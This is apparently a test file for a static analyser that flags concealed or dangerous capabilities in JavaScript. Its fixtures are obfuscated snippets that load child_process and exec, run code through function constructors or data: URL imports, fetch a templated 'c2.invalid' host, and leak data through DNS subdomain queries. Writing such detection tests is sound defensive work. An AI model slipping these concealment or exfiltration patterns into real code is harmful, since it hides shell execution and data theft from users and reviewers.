import { expect, test } from 'vitest'
import { capabilitiesOf, hostsOf } from '../../../../test/support/read-code.ts'
import type { Capability } from '../../capability.ts'

const codes = (text: string) => [...text].map((character) => character.charCodeAt(0)).join()

test.each<[code: string, ...can: Capability[]]>([
  [`const c = (...n) => String.fromCharCode(...n); require(c(${codes('child_process')}))[c(${codes('exec')})](x)`, 'concealed-name', 'execute', 'shell'],
  ["const r = (s) => s.split('').reverse().join(''); require(r('ssecorp_dlihc'))[r('cnyScexe')](x)", 'concealed-name', 'execute', 'shell'],
  ["const r = (s) => { return [...s].reverse().join('') }; import(r('ptth'))", 'concealed-name', 'network'],
  ["const t = ['fet', 'ch', 'a']; const g = (...i) => i.map((n) => t[n]).join(''); globalThis[g(0, 1)](x)", 'concealed-name', 'network'],
  [`require(JSON.parse('"\\\\u0063hild_process"')).exec('x')`, 'concealed-name', 'execute'],
  ["process.getBuiltinModule('ssecorp_dlihc'.split('').reverse().join(''))", 'concealed-name', 'execute'],
  ['const make = Object.getPrototypeOf(async () => {}).constructor; make(x)()', 'evaluate'],
  ['(async () => {}).__proto__.constructor(x)()', 'evaluate'],
  ['module.constructor.prototype._compile.call(module, x, y)', 'evaluate'],
  ['const d = (s) => s.replace(/./g, (c) => String.fromCharCode(c.charCodeAt(0) - 1)); eval(d(x))', 'decode', 'evaluate'],
  ["const s = b.map((x, i) => String.fromCharCode(x ^ (i % 251))).join('')", 'decode'],
  ['out += String.fromCharCode(parseInt(bits, 2))', 'decode'],
])('%s', (code, ...can) => {
  expect([...capabilitiesOf(code)]).toEqual(expect.arrayContaining(can))
})

test.each([
  "require('child_' + 'process'); import('node:' + 'http')",
  "const load = (name) => require(name); load('child_process')",
  "['fs', 'http'].map((name) => require(name))",
  "'./a/b'.split('/').map((part) => part.toUpperCase()).join('-')",
  'text += String.fromCharCode(parseInt(digits, 16)); String.fromCharCode(65 + index)',
  'const id = (x) => x; const both = (a, b) => both(b, a); id(id(1)); both(1, 2)',
])('%s: its names can be read', (code) => {
  const can = capabilitiesOf(code)
  expect(can.has('concealed-name') || can.has('decode')).toBe(false)
})

test.each([
  `await import('data:text/javascript;base64,${Buffer.from("require('child_process').exec('x')").toString('base64')}')`,
  "new Worker(new URL('data:text/javascript,require(%22child_process%22).exec(%22x%22)'))",
])('%s: an address that is the program is read as one', (code) => {
  expect([...capabilitiesOf(code)]).toEqual(expect.arrayContaining(['evaluate', 'blob-literal', 'execute', 'shell']))
})

test('an address that begins as one runs what is put behind it; an image and another module do not', () => {
  expect(capabilitiesOf("import('data:text/javascript,' + encodeURIComponent(t))")).toContain('evaluate')
  expect(capabilitiesOf("image.src = 'data:image/png;base64,AAAA'; import('./a.js'); new Worker(new URL('./b.js', import.meta.url))")).not.toContain('evaluate')
})

test('the constant end of a host is the host, and data in names that are asked for is told', () => {
  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: it is source code to be read
  expect([...hostsOf('fetch(`https://${x}.c2.invalid/p`)')]).toEqual(['c2.invalid'])
  const ask = "const { Resolver } = require('dns'); new Resolver().resolve4(`${i}.${part}.q.invalid`, () => {})"
  expect([...hostsOf(ask)]).toEqual(['q.invalid'])
  expect(capabilitiesOf(ask)).toContain('name-query')
  expect(capabilitiesOf("require('dns').resolveSrv(`_service._tcp.${host}`); require('dns').lookup('c2.invalid')")).not.toContain('name-query')
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: it is source code to be read
})
